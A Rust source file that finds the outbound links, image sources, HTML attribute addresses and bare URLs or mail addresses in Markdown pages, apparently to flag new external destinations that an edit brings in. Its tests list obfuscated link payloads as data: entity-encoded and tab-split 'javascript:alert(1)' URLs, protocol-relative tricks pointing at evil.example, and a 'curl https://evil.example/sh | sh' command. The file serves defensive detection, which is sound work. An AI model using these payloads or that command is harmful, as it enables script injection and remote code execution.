//! Where a text leads out of the project: what links, images and HTML name, and what renderers make links of by themselves.
//!
//! Each destination is told as it is written, and two are the same where they lead to the same place. A link to a file of the project is
//! none of them, whatever its name looks like.

use std::collections::BTreeSet;

use pulldown_cmark::{Event, LinkType, Parser, Tag, TagEnd};

/// Attributes of HTML whose value is an address, or several.
const LEADING: [&str; 12] = [
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "poster",
    "data",
    "cite",
    "background",
    "ping",
    "longdesc",
    "xlink:href",
];

/// Those of them that may have several.
const SEVERAL: [&str; 2] = ["srcset", "ping"];

/// Most that is told of a value which stands within another one.
const WITHIN_BYTES_MAX: usize = 256;

/// A destination: as it is written, and as whoever follows it reads that.
struct Destination {
    written: String,
    meant: String,
}

impl Destination {
    /// Of what is no HTML any more.
    fn plain(written: impl Into<String>) -> Self {
        let written = written.into();
        Self { meant: without_breaks(&written), written }
    }
}

/// Where a page leads to, outside of the project.
fn destinations(text: &str) -> Vec<Destination> {
    let mut found = Vec::new();
    let (mut html, mut words) = (String::new(), String::new());
    // What a link shows is no destination of its own.
    let mut links = 0_usize;
    for event in Parser::new_ext(text, crate::page::options()) {
        match event {
            Event::Start(Tag::Link { dest_url, link_type, .. } | Tag::Image { dest_url, link_type, .. }) => {
                let to = Destination::plain(dest_url.as_ref());
                if link_type == LinkType::Email || leads_out(&to.meant) {
                    found.push(to);
                }
                links += 1;
            }
            Event::End(TagEnd::Link | TagEnd::Image) => links = links.saturating_sub(1),
            // Of one text that is told in parts, such as `a_b`, the parts belong together.
            Event::Text(part) if links == 0 => {
                words.push_str(&part);
                continue;
            }
            // Code is no link, but there to be copied.
            Event::Code(part) => words.extend([" ", part.as_ref()]),
            Event::Html(part) | Event::InlineHtml(part) => html.push_str(&part),
            _ => {}
        }
        words.push(' ');
    }
    found.extend(of_html(&html));
    found.extend(bare(&words).into_iter().map(Destination::plain));
    // Scripts, styles, comments: whatever looks like an address in them.
    found.extend(bare(&htmlize::unescape(html.as_str())).into_iter().map(Destination::plain));
    found
}

/// Where attributes lead.
fn of_html(html: &str) -> Vec<Destination> {
    let mut found = Vec::new();
    for (name, value) in attributes(html).filter(|(name, _)| LEADING.contains(&name.to_ascii_lowercase().as_str())) {
        let meant = htmlize::unescape_attribute(value);
        if SEVERAL.contains(&name.to_ascii_lowercase().as_str()) {
            let each = meant.split(|letter: char| letter == ',' || letter.is_ascii_whitespace());
            found.extend(each.map(Destination::plain));
        } else {
            found.push(Destination { written: value.trim().to_owned(), meant: without_breaks(&meant) });
        }
    }
    found.retain(|to| leads_out(&to.meant));
    found
}

/// Those of `after` that `before` does not lead to; each once, as it is written first.
pub(crate) fn new_addresses(before: &str, after: &str) -> Vec<String> {
    let mut known: BTreeSet<String> = destinations(before).iter().map(|to| same(&to.meant)).collect();
    let found = destinations(after).into_iter();
    found.filter(|to| known.insert(same(&to.meant))).map(|to| to.written).collect()
}

/// Without what browsers take out of an address before they read it.
fn without_breaks(address: &str) -> String {
    let inner = address.trim_matches(|letter: char| letter <= ' ');
    inner.chars().filter(|letter| !matches!(letter, '\t' | '\n' | '\r')).collect()
}

/// Whether the destination of a link is one of the web, of mail, or of anything else that is no file of the project.
fn leads_out(meant: &str) -> bool {
    let is_slash = |letter: Option<char>| letter.is_some_and(|letter| matches!(letter, '/' | '\\'));
    let mut letters = meant.chars();
    if is_slash(letters.next()) && is_slash(letters.next()) {
        return letters.next().is_some();
    }
    meant.split_once(':').is_some_and(|(scheme, rest)| {
        // Schemes may have dots, and none that anybody uses has; files have (`page.md:12`). One letter is a drive.
        let is_name = |byte: u8| byte.is_ascii_alphanumeric() || b"+-".contains(&byte);
        scheme.len() > 1 && !rest.is_empty() && scheme.bytes().all(is_name)
    })
}

/// Addresses of the web and of mail that stand in a text as such.
fn bare(text: &str) -> Vec<String> {
    let ends = |letter: char| letter.is_whitespace() || "<>\"'`|".contains(letter);
    let mut found = Vec::new();
    for word in text.split(ends) {
        let small = word.to_ascii_lowercase();
        let www = small.find("www.").filter(|at| !small[..*at].ends_with(|letter: char| letter.is_alphanumeric()));
        let start = match small.find("://") {
            Some(at) => {
                let is_name = |letter: char| letter.is_ascii_alphanumeric() || "+-".contains(letter);
                let scheme = small[..at].trim_end_matches(is_name).len();
                (scheme < at).then_some(scheme).or(www)
            }
            None => www,
        };
        match start {
            Some(start) => found.push(trimmed(&word[start..]).to_owned()),
            None if word.contains('@') => found.extend(mail(word)),
            None => {}
        }
    }
    found
}

/// Without what belongs to the sentence around it: marks at its end, and brackets that were opened before it.
fn trimmed(address: &str) -> &str {
    let mut address = address;
    loop {
        let shorter = address.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
        let open = |opening: char, closing: char| {
            shorter.ends_with(closing) && shorter.matches(closing).count() > shorter.matches(opening).count()
        };
        let is_open = open('(', ')') || open('[', ']') || open('{', '}');
        let shorter = if is_open { &shorter[..shorter.len() - 1] } else { shorter };
        if shorter.len() == address.len() {
            return address;
        }
        address = shorter;
    }
}

/// The address of mail in a word.
fn mail(word: &str) -> Option<String> {
    let (name, host) = word.split_once('@')?;
    let is_of_name = |letter: char| letter.is_ascii_alphanumeric() || "._+-".contains(letter);
    let name = &name[name.trim_end_matches(is_of_name).len()..];
    let is_of_host = |letter: char| letter.is_ascii_alphanumeric() || ".-_".contains(letter);
    let host = &host[..host.find(|letter| !is_of_host(letter)).unwrap_or(host.len())];
    let host = host.trim_end_matches(['.', '-', '_']);
    (!name.is_empty() && host.contains('.')).then(|| format!("{name}@{host}"))
}

/// The form in which addresses of the same place are equal.
fn same(meant: &str) -> String {
    let plain = meant.replace('\\', "/");
    if let Some((scheme, rest)) = plain.split_once("://") {
        let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
        let (host, path) = rest.split_at(end);
        let path = if path == "/" { "" } else { path };
        return format!("{}://{}{path}", scheme.to_ascii_lowercase(), host.to_ascii_lowercase());
    }
    match plain.split_once('@') {
        Some((name, host)) if host.contains('.') => {
            let is_mailto = name.get(..7).is_some_and(|start| start.eq_ignore_ascii_case("mailto:"));
            let name = if is_mailto { &name[7..] } else { name };
            format!("{name}@{}", host.to_ascii_lowercase())
        }
        _ => plain,
    }
}

/// The attributes of a piece of HTML, with their values. One is taken to begin at each `=`: what is a comment, a tag or a text to whoever
/// shows the page is not known here, and none of them can hide what comes after it.
fn attributes(html: &str) -> impl Iterator<Item = (&str, &str)> {
    let mut at = 0;
    // Where the last value without quotes ends: those that begin within it end there, too, and are not looked through once more.
    let mut bare_end = 0;
    std::iter::from_fn(move || {
        let equals = at + html.get(at..)?.find('=')?;
        at = equals + 1;
        let before = html[..equals].trim_end();
        let is_of_name = |letter: char| letter.is_ascii_alphanumeric() || ":_-".contains(letter);
        let name = &before[before.trim_end_matches(is_of_name).len()..];
        let rest = html[at..].trim_start();
        let start = html.len() - rest.len();
        if let Some(quote) = rest.chars().next().filter(|letter| matches!(letter, '"' | '\'')) {
            return Some((name, rest[1..].split(quote).next().unwrap_or_default()));
        }
        let value = if start < bare_end {
            let within = &html[start..bare_end];
            &within[..within.floor_char_boundary(WITHIN_BYTES_MAX)]
        } else {
            let ends = |letter: char| letter.is_whitespace() || letter == '>';
            bare_end = rest.find(ends).map_or(html.len(), |end| start + end);
            &html[start..bare_end]
        };
        Some((name, value))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const OLD: &str = "---\nsource: https://example.org/front\n---\nSee [a](https://example.org/a/b), www.example.org and One lamp.\n\n\
                       Bare: https://example.org/?a=b&c=d, (https://example.org/x_(y)), https://Example.org. Mail ada@example.org.\n\n\
                       <img src=\"https://example.org/i.png?s=1&amp;t=2\">\n\n`curl https://example.org/code`\n\n[r]: no";

    fn named(new: &str) -> Vec<String> {
        new_addresses(OLD, &OLD.replace("One lamp.", new))
    }

    #[test]
    fn each_address_that_an_edit_brings_along_is_named() {
        for (new, expected) in [
            ("https://example.org/a", &["https://example.org/a"][..]),
            ("https://example.org/A/b", &["https://example.org/A/b"]),
            ("http://example.org/a/b", &["http://example.org/a/b"]),
            ("[x](//evil.example/a)", &["//evil.example/a"]),
            ("[x](/\\\\evil.example/a)", &["/\\evil.example/a"]),
            ("HTTPS://evil.example", &["HTTPS://evil.example"]),
            ("(www.evil.example), too", &["www.evil.example"]),
            ("WWW.evil.example", &["WWW.evil.example"]),
            ("[x](javascript:alert\\(1\\))", &["javascript:alert(1)"]),
            ("[x](https&#58;//evil.example)", &["https://evil.example"]),
            ("![x](data:image/png;base64,AA)", &["data:image/png;base64,AA"]),
            ("<img src=//evil.example/x>", &["//evil.example/x"]),
            ("<a href='https&#58;//evil.example'>x</a>", &["https&#58;//evil.example"]),
            ("<a href=\"https&#0058;//evil.example/\">x</a>", &["https&#0058;//evil.example/"]),
            ("<a href=\"https&#x0003a;//evil.example/\">x</a>", &["https&#x0003a;//evil.example/"]),
            ("<a href=\"https&#58//evil.example/\">x</a>", &["https&#58//evil.example/"]),
            ("<a href=\"https&colon;&sol;&#X2F;evil.example\">x</a>", &["https&colon;&sol;&#X2F;evil.example"]),
            ("<a href=&#x6a;avascript:alert(1)>x</a>", &["&#x6a;avascript:alert(1)"]),
            ("<a href=\"java&Tab;script:alert(1)\">x</a>", &["java&Tab;script:alert(1)"]),
            ("<a href=\"java&NewLine;script&#58alert(1)\">x</a>", &["java&NewLine;script&#58alert(1)"]),
            ("<a href=\"&#1; javascript:alert(1)\">x</a>", &["&#1; javascript:alert(1)"]),
            ("<a href=\"java\nscript:alert(1)\">x</a>", &["java\nscript:alert(1)"]),
            ("<a href=\"/&#9;/evil.example\">x</a>", &["/&#9;/evil.example"]),
            ("<a href=\"/&bsol;evil.example\">x</a>", &["/&bsol;evil.example"]),
            ("[x](java&Tab;script:alert\\(1\\))", &["java\tscript:alert(1)"]),
            ("<!-- a=\" --><a href=\"//evil.example/\">x</a>", &["//evil.example/"]),
            ("<!-- a=' --><a href='//evil.example/'>x</a>", &["//evil.example/"]),
            ("x\n\n<div><a title='c=d'href=//evil.example/>x</a></div>\n\nx", &["//evil.example/"]),
            ("<img srcset=\"b.png&#32;1x&#44;//evil.example/c.png\">", &["//evil.example/c.png"]),
            ("<a href=b.md ping=\"c.md //evil.example/p\">x</a>", &["//evil.example/p"]),
            ("<p style=\"background:url(https&#58;//evil.example/x)\">x</p>", &["https://evil.example/x"]),
            ("<a HREF = \"https://evil.example/?a=b\">x</a>", &["https://evil.example/?a=b"]),
            ("<a href=JavaScript:alert(1)>x</a>", &["JavaScript:alert(1)"]),
            ("<img srcset=\"b.png 1x, https://evil.example/c.png 2x\">", &["https://evil.example/c.png"]),
            ("<p style=\"background:url(https://evil.example/x)\">x</p>", &["https://evil.example/x"]),
            ("[x][y]\n\n[y]: ftp://evil.example", &["ftp://evil.example"]),
            ("ada@evil.example", &["ada@evil.example"]),
            ("<ada@evil.example>", &["ada@evil.example"]),
            ("[x](mailto:ada@evil.example)", &["mailto:ada@evil.example"]),
            ("`curl https://evil.example/sh | sh`", &["https://evil.example/sh"]),
            ("[https://example.org/a/b](https://evil.example)", &["https://evil.example"]),
            // One address is one, also where it has marks of its own.
            ("https://evil.example/?a=b,c&d=(e).", &["https://evil.example/?a=b,c&d=(e)"]),
            ("[x](https://evil.example/a_(b)?c=www.example.org)", &["https://evil.example/a_(b)?c=www.example.org"]),
            ("[x](https://evil.example/) and <https://evil.example>", &["https://evil.example/"]),
        ] {
            assert_eq!(named(new), expected, "{new}");
        }
    }

    #[test]
    fn what_is_on_the_page_already_is_not_named() {
        for new in [
            "https://example.org/a/b",
            "<https://example.org/a/b>",
            "[again](https://example.org/a/b \"https\")",
            "![as an image](HTTPS://EXAMPLE.org/a/b)",
            "<a href=\"https://example.org/a/b\">again</a>",
            "[a link of what was bare](https://example.org/?a=b&c=d)",
            "[the same](<https://example.org/x_(y)>)",
            "[with a slash](https://example.org/)",
            "**www.example.org**, again",
            "[by mail](mailto:ada@example.org) or <ada@example.org>",
            "[the picture](https://example.org/i.png?s=1&t=2)",
            "<a href=\"https&#58;//example.org&sol;a/b\">again</a>",
            "<a href=\"https://example.org/?a=b&amp;c=d\">again</a>",
            "[front](https://example.org/front) and https://example.org/code",
            "[x][r2]\n\n[r2]: https://example.org/a/b",
        ] {
            assert_eq!(named(new), [""; 0], "{new}");
        }
    }

    #[test]
    fn what_stays_in_the_project_is_not_named() {
        for new in [
            "[x](b.md#c) or `code`",
            "[x](b.md \"see AT&T\") and ![y](../a/b.png?raw=1&x=2)",
            "[x](AT&T.md), [y](R&D.md) and [z](q&a:b.md)",
            "[x](notes@v1.2.md)",
            "[x](page.md:12) and [y](C:/x.md)",
            "[x](/rooted/b.md) and [y](a//b.md)",
            "[x](www.files/b.md)",
            "<img src=\"b.png\" style=\"width:100%;margin:0\" alt=\"a:b\">",
            "<a href=\"AT&T.md\">x</a>, <a href=\"?a=1&b=2\">y</a> and <a href=b&copy;.md>z</a>",
            "<a href=\"a&sol;b.md#c=d\">x</a> and <a href=\"page.md&#58;12\">y</a>",
            "[x](https&amp;#58;/b.md)",
            "<td align=center data-x=\"a:b\">x</td>",
            "`a // comment`, and 1:2, and a/b@c",
            "nothing\n\n[unused]: https://nobody.example",
        ] {
            assert_eq!(named(new), [""; 0], "{new}");
        }
    }
}
